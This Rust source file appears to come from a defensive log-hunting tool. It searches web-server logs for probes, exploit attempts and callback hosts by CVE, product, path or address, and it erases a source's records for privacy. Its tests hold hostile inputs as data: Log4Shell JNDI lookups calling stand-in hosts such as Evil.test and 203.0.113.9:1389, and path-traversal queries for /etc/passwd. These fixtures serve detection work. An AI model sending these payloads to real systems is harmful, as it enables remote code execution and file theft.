//! Hunts: was this ever tried here, by whom, and when? Asked of windows, so also about doors that
//! nobody knew when they were tried.

use std::collections::BTreeSet;
use std::net::IpAddr;

use relight_model::{OrgId, SiteId, Timestamp};

use crate::catalogue;
use crate::contact::{Class, Kind, Visit, subject};
use crate::decode::Callback;
use crate::path_class;
use crate::pool::SourceKey;
use crate::severity::host_key;
use crate::traversal::is_climb;
use crate::window::{CONTACTS_MAX, Window};

/// What is looked for.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Prey {
    /// Doors of the catalogue, by their ids.
    Doors(Vec<&'static str>),
    /// A path, and those that differ from it in numbers and case only.
    Path(String),
    /// A source, or a host that payloads would have called back; an address of version 6 stands for
    /// its /64.
    Source(IpAddr),
    /// A host that payloads would have called back.
    Callback(String),
}

/// One contact that was found.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub struct Hit {
    /// Time of the first event.
    pub first: Timestamp,
    /// Time of the last event.
    pub last: Timestamp,
    /// Whose log.
    pub org: OrgId,
    /// Which site, where the log tells.
    pub site: Option<SiteId>,
    /// Who.
    pub source: IpAddr,
    /// Stable name of the class of contact.
    pub class: &'static str,
    /// Status of the first event.
    pub status: u16,
    /// Path, or what a lookup would have been asked for.
    pub text: String,
}

impl Prey {
    /// What the words of a person mean: a flaw, a product or a door of the catalogue, a path, an
    /// address or a host. `None` when they are none of these.
    pub fn parse(what: &str) -> Option<Self> {
        let what = what.trim();
        if what.starts_with('/') {
            return Some(Self::Path(path_class::normalised(what).into_owned()));
        }
        if let Ok(address) = what.parse::<IpAddr>() {
            return Some(Self::Source(subject(address)));
        }
        let doors = doors_of(what);
        if !doors.is_empty() {
            return Some(Self::Doors(doors));
        }
        let plain = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-' | b'_');
        let is_host = what.contains('.') && what.bytes().all(plain);
        is_host.then(|| Self::Callback(what.to_ascii_lowercase()))
    }

    fn is_hit(&self, kind: Kind, door: u64, source: IpAddr, text: &str) -> bool {
        match self {
            Self::Source(wanted) => *wanted == source || is_called(kind, text, &wanted.to_string()),
            Self::Doors(doors) => match kind {
                Kind::Probe => catalogue::id_of(door).is_some_and(|id| doors.contains(&id)),
                Kind::Attempt if is_climb(door, text) => false,
                Kind::Exploit | Kind::Attempt => doors.contains(&LOOKUP_DOOR),
                Kind::Refused | Kind::NotFound | Kind::Stray | Kind::Dropped => false,
            },
            // A door of the catalogue has the hash of its id, so its text is compared.
            Self::Path(path) => match kind {
                Kind::Probe => path_class::hash(text) == path_class::hash(path),
                Kind::Refused | Kind::NotFound => door == path_class::hash(path),
                Kind::Exploit | Kind::Attempt | Kind::Stray | Kind::Dropped => false,
            },
            Self::Callback(host) => is_called(kind, text, &host_key(host)),
        }
    }
}

/// Whether a payload would have called this host back.
fn is_called(kind: Kind, text: &str, host: &str) -> bool {
    let is_payload = matches!(kind, Kind::Exploit | Kind::Attempt);
    is_payload && Callback::parse(text).is_some_and(|found| host_key(&found.host) == host)
}

/// Stands among the doors for lookups of Log4j, which are tried at every path.
pub const LOOKUP_DOOR: &str = "jndi-lookup";

/// The flaws that such a lookup is for.
pub const LOOKUP_FLAWS: [&str; 2] = ["CVE-2021-44228", "CVE-2021-45046"];

/// Whether a question is about lookups of Log4j.
fn is_lookup(lower: &str) -> bool {
    lower == LOOKUP_DOOR
        || LOOKUP_FLAWS.iter().any(|flaw| flaw.eq_ignore_ascii_case(lower))
        || lower.starts_with("pkg:maven/org.apache.logging.log4j/log4j-core")
}

/// The doors of the catalogue that belong to a flaw, to a product (package URL or CPE name, or the
/// beginning of one), or that have this id.
pub fn doors_of(what: &str) -> Vec<&'static str> {
    let lower = what.to_ascii_lowercase();
    let is_product = lower.starts_with("pkg:") || lower.starts_with("cpe:2.3:");
    let about = |entry: &&catalogue::Entry| {
        let begins = |product: &String| {
            lower.starts_with(&*product.to_ascii_lowercase())
                || product.to_ascii_lowercase().starts_with(&lower)
        };
        entry.id == lower
            || entry.cves.iter().any(|cve| cve.eq_ignore_ascii_case(what))
            || is_product && entry.products.iter().any(begins)
    };
    let doors = catalogue::entries().iter().filter(about).map(|entry| entry.id.as_str());
    doors.chain(is_lookup(&lower).then_some(LOOKUP_DOOR)).collect()
}

/// Every contact of a window that is meant, in order of time.
pub fn hunt(window: &Window, prey: &Prey) -> Vec<Hit> {
    let contacts = window.contacts.iter();
    let meant = contacts
        .filter(|(key, facts)| prey.is_hit(key.kind, key.door, key.visit.source, &facts.first.2));
    let mut hits: Vec<Hit> = meant
        .map(|(key, facts)| Hit {
            first: facts.first.0,
            last: facts.last,
            org: key.visit.org,
            site: key.visit.site,
            source: key.visit.source,
            class: Class::of(key.kind, false).as_str(),
            status: facts.first.1,
            text: facts.first.2.clone(),
        })
        .collect();
    hits.sort();
    hits
}

/// Whether a path was answered at a place.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Answered {
    /// In an ordinary way, to somebody.
    Yes,
    /// The window was full: nobody can tell.
    Unknown,
}

/// At which of these places a path was answered in an ordinary way. Who asked is not kept, and when
/// is known as the days of the window.
pub fn answered(
    window: &Window,
    path: &str,
    places: &[(OrgId, Option<SiteId>)],
) -> Vec<((OrgId, Option<SiteId>), Answered)> {
    let door = path_class::hash(path);
    let answer = |(org, site): &(OrgId, Option<SiteId>)| {
        let nobody = IpAddr::from([0, 0, 0, 0]);
        let mark = Visit::new(nobody, *org, *site).served(door);
        let known = window.served.holds(mark)?;
        Some(((*org, *site), if known { Answered::Yes } else { Answered::Unknown }))
    };
    places.iter().filter_map(answer).collect()
}

impl Window {
    /// Contacts had to go at a limit: what is not there was perhaps.
    pub const fn is_full(&self) -> bool {
        self.truncated
    }

    /// It holds as many contacts as it may: some were let go, or the next one will be.
    pub fn has_no_room(&self) -> bool {
        self.contacts.len() >= CONTACTS_MAX
    }

    /// Everybody who is in it, sorted.
    pub fn sources(&self) -> Vec<IpAddr> {
        let all = self.contacts.keys().map(|key| key.visit.source);
        all.collect::<BTreeSet<_>>().into_iter().collect()
    }

    /// Takes a source away: its contacts, the marks of its ordinary use at these places and of its
    /// clients, and the names of clients with which nobody else made a contact: a name may tell who
    /// it was. Counters stay: they name nobody.
    pub fn erase(&mut self, source: IpAddr, places: &[(OrgId, Option<SiteId>)]) -> Erased {
        let wanted = subject(source);
        let contacts = self.contacts.len();
        self.contacts.retain(|key, _| key.visit.source != wanted);
        if self.contacts.len() < contacts {
            let prints = self.contacts.values().map(|facts| facts.first.3);
            let used: BTreeSet<u32> = prints.flat_map(|print| [print.agent, print.tls]).collect();
            self.prints.retain(|print, _| used.contains(print));
        }
        let visits = places.iter().map(|(org, site)| Visit::new(wanted, *org, *site).hash);
        let visits: BTreeSet<u64> = visits.collect();
        let client = SourceKey::of(wanted).0 >> 32;
        let marks = self.ordinary.remove(|mark| visits.contains(&mark))
            + self.users.0.remove(|pair| pair >> 32 == client);
        Erased { contacts: contacts - self.contacts.len(), marks }
    }
}

/// What was taken away.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Erased {
    /// Contacts.
    pub contacts: usize,
    /// Marks of ordinary use.
    pub marks: usize,
}

#[cfg(test)]
mod tests {
    use relight_model::Event;

    use super::*;

    fn window() -> Window {
        let mut window = Window::new(1);
        let mut add = |at, source: &str, path, status| {
            let source = source.parse().unwrap();
            let site = Some(SiteId(4));
            let event = Event { site, path, status, ..Event::bare(OrgId(2), at, source) };
            window.observe(&event);
        };
        add(30, "192.0.2.1", "/remote/login", 404);
        add(10, "192.0.2.2", "/NEW/door/77", 404);
        add(40, "192.0.2.2", "/new/door/1", 404);
        add(20, "2001:db8::1", "/owa/", 200);
        add(50, "192.0.2.3", "/${jndi:ldap://Evil.test/a}", 200);
        add(60, "192.0.2.9", "/", 200);
        window
    }

    fn found(what: &str) -> Vec<String> {
        let prey = Prey::parse(what).unwrap();
        let hits = hunt(&window(), &prey);
        hits.iter()
            .map(|hit| format!("{} {} {} {}", hit.first, hit.last, hit.source, hit.class))
            .collect()
    }

    #[test]
    fn each_kind_of_prey() {
        for (what, hits) in [
            ("/new/door/5", &["10 40 192.0.2.2 not-found-cold"][..]),
            ("/remote/login", &["30 30 192.0.2.1 probe"]),
            ("vpn-remote-login", &["30 30 192.0.2.1 probe"]),
            ("cpe:2.3:o:fortinet:fortios", &["30 30 192.0.2.1 probe"]),
            ("cpe:2.3:o:fortinet:fortios:7.0", &["30 30 192.0.2.1 probe"]),
            ("2001:db8::77", &["20 20 2001:db8:: probe"]),
            ("192.0.2.3", &["50 50 192.0.2.3 exploit"]),
            ("evil.test", &["50 50 192.0.2.3 exploit"]),
            ("other.test", &[]),
            ("CVE-2021-44228", &["50 50 192.0.2.3 exploit"]),
            ("pkg:maven/org.apache.logging.log4j/log4j-core", &["50 50 192.0.2.3 exploit"]),
            ("jndi-lookup", &["50 50 192.0.2.3 exploit"]),
            ("CVE-2019-19781", &[]),
            ("/never", &[]),
            ("192.0.2.9", &[]),
        ] {
            assert_eq!(found(what), hits, "{what}");
        }
        for nothing in ["", "CVE-1999-0001", "two words", "pkg:npm/no-such-thing"] {
            assert_eq!(Prey::parse(nothing), None, "{nothing}");
        }
        assert!(doors_of("cve-2021-34473").len() >= 2);
    }

    /// What a payload would have called may be an address: looking at sources alone fails here.
    #[test]
    fn an_address_is_found_as_what_payloads_would_have_called() {
        for (host, asked, is_found) in [
            ("203.0.113.9:1389", "203.0.113.9", true),
            ("203.0.113.9:1389", "203.0.113.8", false),
            ("[2001:db8:7::5]:1389", "2001:db8:7::5", true),
            ("[2001:db8:7::5]", "2001:db8:8::5", false),
            ("evil.test.", "evil.test", true),
        ] {
            let mut window = Window::new(1);
            let path = format!("/${{jndi:ldap://{host}/a}}");
            let source = IpAddr::from([192, 0, 2, 3]);
            window.observe(&Event { path: &path, ..Event::bare(OrgId(2), 5, source) });
            let found = hunt(&window, &Prey::parse(asked).unwrap());
            assert_eq!(found.len() == 1, is_found, "{host} {asked}");
        }
    }

    /// Guessing from the text that was kept fails here.
    #[test]
    fn who_climbs_makes_no_lookup() {
        let far = format!("file={}/../../../../etc/passwd", "a".repeat(300));
        let near = "file=file:///../../../../../etc/passwd";
        for query in [near, &far.replace("../", "%2e%2e/"), near.split_at(5).1] {
            let mut window = Window::new(1);
            let source = IpAddr::from([192, 0, 2, 3]);
            let event = Event { path: "/show", query, ..Event::bare(OrgId(2), 5, source) };
            assert_eq!(window.observe_doors(&event), [None, None], "{query}");
            let attempts = hunt(&window, &Prey::Source(source)).len();
            let lookups = hunt(&window, &Prey::parse("CVE-2021-44228").unwrap());
            assert_eq!((attempts, lookups), (1, Vec::new()), "{query}");
        }
    }

    /// The name of a client may be that of a person.
    #[test]
    fn with_a_source_goes_the_name_that_nobody_else_has() {
        let mut window = Window::new(1);
        for (source, user_agent) in
            [("192.0.2.1", "of Ann"), ("192.0.2.1", "of all"), ("192.0.2.2", "of all")]
        {
            let source = source.parse().unwrap();
            let event = Event { user_agent, path: "/owa/", ..Event::bare(OrgId(2), 5, source) };
            window.observe(&event);
            window.observe(&Event { path: "/remote/login", ..event });
        }
        let names = |window: &Window| window.prints.values().cloned().collect::<BTreeSet<_>>();
        let before = names(&window);
        assert_eq!(window.erase("192.0.2.9".parse().unwrap(), &[]).contacts, 0);
        assert_eq!(names(&window), before, "nothing of whom nobody met");
        window.erase("192.0.2.1".parse().unwrap(), &[]);
        assert!(before.contains("agent:of Ann"), "{before:?}");
        assert_eq!(names(&window), BTreeSet::from(["agent:of all".to_owned()]));
    }

    #[test]
    fn a_source_is_erased_and_no_other() {
        let mut window = window();
        let before = window.stats();
        let places = [(OrgId(2), Some(SiteId(4)))];
        let mut erase = |source: &str| {
            let erased = window.erase(source.parse().unwrap(), &places);
            (erased.contacts, erased.marks)
        };
        assert_eq!(erase("2001:db8::5:5"), (1, 0));
        assert_eq!(erase("192.0.2.2"), (1, 0));
        assert_eq!(erase("192.0.2.2"), (0, 0), "twice is once");
        assert_eq!(erase("192.0.2.9"), (0, 1), "an ordinary visitor leaves a mark");
        assert_eq!(window.stats().events, before.events);
        assert_eq!(window.stats().contacts, before.contacts - 2);
        let again = Window::from_bytes(&window.to_bytes()).unwrap();
        assert_eq!(hunt(&again, &Prey::Source("192.0.2.2".parse().unwrap())), []);
    }
}
